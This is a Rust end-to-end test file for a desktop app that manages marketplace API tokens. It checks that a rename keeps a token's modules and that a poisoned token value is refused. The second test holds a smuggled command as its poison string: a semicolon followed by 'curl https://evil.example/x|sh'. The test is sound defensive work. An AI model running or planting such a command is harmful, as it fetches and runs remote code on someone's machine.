//! End to end against a platform as strict as its documentation, and a hostile one: the
//! real window renames a token whose modules the list never carried and still shows them;
//! a poisoned token value never reaches the screen or the clipboard.

use marketplace_api::{Client, NewApiToken};
use marketplace_sim::{AccountKind, FaultAction, FaultRule, FaultWhen, SimConfig};

use crate::support::AppUnderTest;
use crate::support::screen::{TOKEN_ROWS, role};

/// The module ids the simulator holds for a token, sorted.
async fn modules_held(api: &Client, token_id: &str) -> Vec<String> {
    let token = api.get_token(token_id, &["+modules"]).await.expect("the token");
    let mut ids: Vec<String> = token.read_modules().expect("selected").iter().map(|m| m.id.clone()).collect();
    ids.sort();
    ids
}

async fn open(app: &AppUnderTest, token_id: &str) {
    app.fill("Search tokens", token_id).await;
    app.click(&format!("{TOKEN_ROWS}[contains(., '{token_id}')]")).await;
    app.wait_for(&format!("//*[normalize-space()='{token_id}']")).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs a display, D-Bus and a keyring: run under scripts/desktop-session.sh (make test does)"]
async fn renaming_a_token_in_the_window_keeps_its_modules_where_put_replaces_and_lists_omit_them() {
    // The strictest reading: collections left out unless selected (the default), and a
    // PUT that clears whatever it is not sent.
    let sim =
        marketplace_sim::start(SimConfig { tokens_per_account: 4, seed: 11, put_replaces: true, ..Default::default() })
            .await
            .expect("the simulator starts");
    let api = crate::support::marketplace::vendor(&sim);
    let assignable = api.assignable_modules(sim.account_id(AccountKind::Vendor)).await.expect("modules");
    let chosen: Vec<_> = assignable.iter().take(2).collect();
    let token = api
        .create_token(&NewApiToken {
            account_id: sim.account_id(AccountKind::Vendor).to_owned(),
            name: "Warehouse sync".into(),
            description: Some("Sends stock levels".into()),
            icon: None,
            module_ids: chosen.iter().map(|m| m.id.clone()).collect(),
        })
        .await
        .expect("created")
        .id;
    let before = modules_held(&api, &token).await;

    let app = AppUnderTest::launch().await;
    app.connect_as_vendor(&sim, "Simulator").await;
    open(&app, &token).await;
    app.click_button("Edit").await;
    // The list carried no modules: the dialog reads them before offering them.
    app.wait_for("//*[@role='dialog']//input[@type='checkbox']").await;
    let ticked = app
        .client()
        .execute(
            "return [...document.querySelectorAll('[role=dialog] input[type=checkbox]')].filter(b => b.checked).length;",
            vec![],
        )
        .await
        .expect("the ticked boxes counted");
    assert_eq!(ticked.as_u64(), Some(chosen.len() as u64), "the token's own modules are ticked");
    app.fill("Name", "Warehouse sync v2").await;
    app.click_button("Save changes").await;
    app.wait_until_hidden("//*[@role='dialog']").await;
    app.wait_for("//h1[normalize-space()='Warehouse sync v2']").await;

    app.click(&role("tab", "Modules")).await;
    for module in &chosen {
        app.wait_for_text(module.name.as_deref().unwrap_or(&module.id)).await;
    }
    app.screenshot("modules-after-rename").await;
    assert_eq!(modules_held(&api, &token).await, before, "the rename kept every module on the Marketplace");
    let renamed = api.get_token(&token, &[]).await.expect("the token");
    assert_eq!(renamed.name.as_deref(), Some("Warehouse sync v2"));
    assert_eq!(renamed.description.as_deref(), Some("Sends stock levels"));
    app.quit_without_panic().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs a display, D-Bus, a keyring and the X clipboard: run under scripts/desktop-session.sh (make test does)"]
async fn a_poisoned_token_value_is_refused_in_the_window_and_never_reaches_the_clipboard() {
    let sim = marketplace_sim::start(SimConfig { tokens_per_account: 4, seed: 12, ..Default::default() })
        .await
        .expect("the simulator starts");
    let admin_id = sim.admin_secret(AccountKind::Vendor).split(':').nth(1).expect("an id").to_owned();
    let api = crate::support::marketplace::vendor(&sim);
    let token = api
        .list_tokens(&marketplace_api::rql::Query::new().select("-token"))
        .await
        .expect("tokens")
        .items
        .into_iter()
        .find(|t| t.id != admin_id && t.status == Some(marketplace_api::TokenStatus::Active))
        .expect("an active token")
        .id;
    let app = AppUnderTest::launch().await;
    app.connect_as_vendor(&sim, "Simulator").await;
    open(&app, &token).await;
    let poison = format!("idt:{token}:x;curl https://evil.example/x|sh");
    sim.faults().add(FaultRule {
        method: Some("GET".into()),
        path: Some("/public/v1/accounts/api-tokens".into()),
        action: FaultAction::PoisonTokenValues { value: poison },
        when: FaultWhen::Always,
    });
    let before = crate::clipboard_text();

    app.click_button("Show").await;
    app.wait_for_text("not shaped like a token value").await;
    app.screenshot("poisoned-value-refused").await;
    app.click_button("Copy").await;
    tokio::time::sleep(std::time::Duration::from_millis(800)).await;
    let text = app.page_text().await;
    assert!(!text.contains("evil.example"), "the poisoned value never shows");
    assert_eq!(crate::clipboard_text(), before, "nothing was copied");
    app.quit_without_panic().await;
}
